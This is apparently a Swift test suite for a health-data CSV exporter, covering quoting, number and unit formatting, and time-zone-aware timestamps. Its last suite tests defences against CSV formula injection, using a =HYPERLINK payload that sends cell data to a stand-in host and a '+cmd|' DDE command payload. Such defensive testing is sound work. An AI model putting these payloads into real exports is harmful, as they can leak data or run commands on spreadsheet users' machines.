import Foundation
import HealthCore
import HealthMetrics
import Testing

@testable import HealthExport

/// The writer, numbers and timestamps on their own, and the daily CSV.
@Suite struct CSVFormattingTests {
    @Test func rfc4180Quoting() throws {
        var bytes: [UInt8] = []
        let output = CSVOutput { bytes.append(contentsOf: $0) }
        try output.row(["plain", "a,b", "say \"hi\"", "line\nbreak", "cr\rhere", "emoji 🍎", ""])
        try output.flush()
        #expect(
            String(decoding: bytes, as: UTF8.self)
                == "plain,\"a,b\",\"say \"\"hi\"\"\",\"line\nbreak\",\"cr\rhere\",emoji 🍎,\n")
    }

    /// Memory stays the size of the buffer: the sink is handed at most one buffer (plus the
    /// row that filled it) at a time, however many rows pass.
    @Test func theBufferNeverGrowsPastOneRow() throws {
        var largest = 0
        var total = 0
        let output = CSVOutput(capacity: 1024) { bytes in
            largest = max(largest, bytes.count)
            total += bytes.count
        }
        for index in 0..<100_000 { try output.row(["2024-01-01T00:00:00+00:00", "Heart Rate", String(index), "bpm"]) }
        try output.flush()
        #expect(largest < 1024 + 64)
        #expect(total == Int(output.bytesWritten))
        #expect(output.rows == 100_000)
    }

    @Test func numbers() {
        #expect(CSVNumber.text(185.5, decimals: 2) == "185.50")
        #expect(CSVNumber.text(-0.004, decimals: 2) == "0.00")
        #expect(CSVNumber.text(-1.005, decimals: 1) == "-1.0")
        #expect(CSVNumber.text(2.675, decimals: 2) == "2.68")  // 2.675 × 100 is 267.5 in binary
        #expect(CSVNumber.text(5432, decimals: nil) == "5432")
        #expect(CSVNumber.text(0.1 + 0.2, decimals: nil) == "0.30000000000000004")
        #expect(CSVNumber.text(1e-5, decimals: nil) == "1e-05")
        #expect(CSVNumber.text(-72, decimals: nil) == "-72")
        #expect(CSVNumber.text(.nan, decimals: 2) == "nan")
    }

    @Test func exactUnitConversions() throws {
        #expect(try HealthUnit.convert(100, from: "lb", to: "kg") == 45.359237)
        #expect(try HealthUnit.convert(5, from: "mmol/L", to: "mg/dL") == 90.078)
        #expect(try HealthUnit.convert(10, from: "mi", to: "km") == 16.09344)
        #expect(try HealthUnit.convert(37, from: "degC", to: "degF") == 98.6)
    }

    @Test func timestampsAcrossZonesAndDST() {
        func text(_ seconds: Double, _ zone: String, _ style: CSVDateStyle = .iso) -> String {
            var timestamp = CSVTimestamp(zone: TimeZone(identifier: zone)!, style: style)
            var buffer: [UInt8] = []
            timestamp.append(seconds, to: &buffer)
            return String(decoding: buffer, as: UTF8.self)
        }
        // 2024-03-10 09:59:59 and 10:00:00 UTC: the last second of PST and the first of PDT.
        #expect(text(1_710_064_799, "America/Los_Angeles") == "2024-03-10T01:59:59-08:00")
        #expect(text(1_710_064_800, "America/Los_Angeles") == "2024-03-10T03:00:00-07:00")
        #expect(text(1_710_064_800, "Asia/Kathmandu") == "2024-03-10T15:45:00+05:45")
        #expect(text(1_710_064_800.9, "UTC") == "2024-03-10T10:00:00+00:00")
        #expect(text(-1, "UTC") == "1969-12-31T23:59:59+00:00")
        #expect(text(1_736_416_200, "America/Los_Angeles", .healthExporter) == "\"1/9/25, 1:50 AM\"")
        #expect(text(1_736_460_000, "America/Los_Angeles", .healthExporter) == "\"1/9/25, 2:00 PM\"")
        #expect(text(1_736_424_000, "UTC", .healthExporter) == "\"1/9/25, 12:00 PM\"")
    }

    /// Issue 33 §5: each row is stamped in the zone of its day (the zone changes of the days
    /// exported), not in one zone for the whole file; before the first change, `zone`.
    @Test func i33_zones_eachStampInTheZoneOfItsDay() {
        let (la, paris) = (TimeZone(identifier: "America/Los_Angeles")!, TimeZone(identifier: "Europe/Paris")!)
        let changes: [(start: Date, zone: TimeZone)] = [
            (Date(timeIntervalSince1970: 1_714_546_800), la),  // 2024-05-01, Los Angeles
            (Date(timeIntervalSince1970: 1_715_378_400), paris),  // 2024-05-11, Paris
            (Date(timeIntervalSince1970: 1_716_015_600), la),  // 2024-05-18, Los Angeles again
        ]
        // Given out of order, as a caller might: sorted inside.
        var timestamp = CSVTimestamp(zone: TimeZone(identifier: "UTC")!, changes: Array(changes.reversed()), style: .iso)
        var rows: [String] = []
        for seconds in [1_714_546_799.0, 1_714_910_400, 1_715_515_200, 1_716_206_400, 1_714_910_401] {
            var buffer: [UInt8] = []
            timestamp.append(seconds, to: &buffer)
            rows.append(String(decoding: buffer, as: UTF8.self))
        }
        #expect(
            rows == [
                "2024-05-01T06:59:59+00:00", "2024-05-05T05:00:00-07:00", "2024-05-12T14:00:00+02:00",
                "2024-05-20T05:00:00-07:00", "2024-05-05T05:00:01-07:00",
            ])
    }

    @Test func dailyMetricsOneRowPerDay() throws {
        let day = NormalizedDailyMetrics(
            localDate: "2024-03-10", timezoneIdentifier: "America/Los_Angeles",
            utcDayStart: Date(timeIntervalSince1970: 1_710_057_600), utcDayEnd: Date(timeIntervalSince1970: 1_710_140_400),
            stepsNormalized: 8412, stepsRawSum: 12050,
            stepsSources: .init(
                primarySource: "apple_watch", secondarySourcesUsed: ["iphone"], ignoredSources: [], suspiciousSteps: false,
                rawSampleCount: 91), activeEnergyKcal: 512.25, sleepHours: 7.5, restingHRBpm: nil, hrvMs: 48.2,
            normalizationVersion: "norm_v1", createdAt: Date(timeIntervalSince1970: 1_710_200_000))
        var bytes: [UInt8] = []
        try DailyCSV.write([day], to: CSVOutput { bytes.append(contentsOf: $0) })
        #expect(
            String(decoding: bytes, as: UTF8.self) == """
                user_id,local_date,timezone,utc_day_start,utc_day_end,steps_normalized,steps_raw_sum,steps_sources_json,\
                active_energy_kcal,sleep_hours,resting_hr_bpm,hrv_ms,normalization_version,created_at
                ,2024-03-10,America/Los_Angeles,2024-03-10T08:00:00Z,2024-03-11T07:00:00Z,8412,12050,\
                "{""ignored_sources"":[],""primary_source"":""apple_watch"",""raw_sample_count"":91,\
                ""secondary_sources_used"":[""iphone""],""suspicious_steps"":false}",512.25,7.5,,48.2,norm_v1,\
                2024-03-11T23:33:20Z

                """)
    }
}

/// Finding L5 (issue 32): a source named `=HYPERLINK(…)` was written as is, and a
/// spreadsheet ran it. Fields starting with a formula character get a leading `'`; numbers
/// (`-5`, `+3.5`, `-1.5e+16`) stay numbers.
@Suite struct L5FormulaInjectionTests {
    @Test func l5_formulaFieldsAreNeutralisedNumbersAreNot() throws {
        var bytes: [UInt8] = []
        let output = CSVOutput { bytes.append(contentsOf: $0) }
        try output.row([
            #"=HYPERLINK("http://x.example/?"&A1,"click")"#, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx", "-5",
            "+3.5", "-1.5e+16", "Jane’s Watch", "-", "-inf",
        ])
        try output.flush()
        #expect(
            String(decoding: bytes, as: UTF8.self)
                == #""'=HYPERLINK(""http://x.example/?""&A1,""click"")",'+cmd|' /C calc'!A0,'-2+3,'@SUM(A1),'\#tx,"'\#rx",-5,+3.5,-1.5e+16,Jane’s Watch,'-,'-inf"#
                + "\n")
    }
}
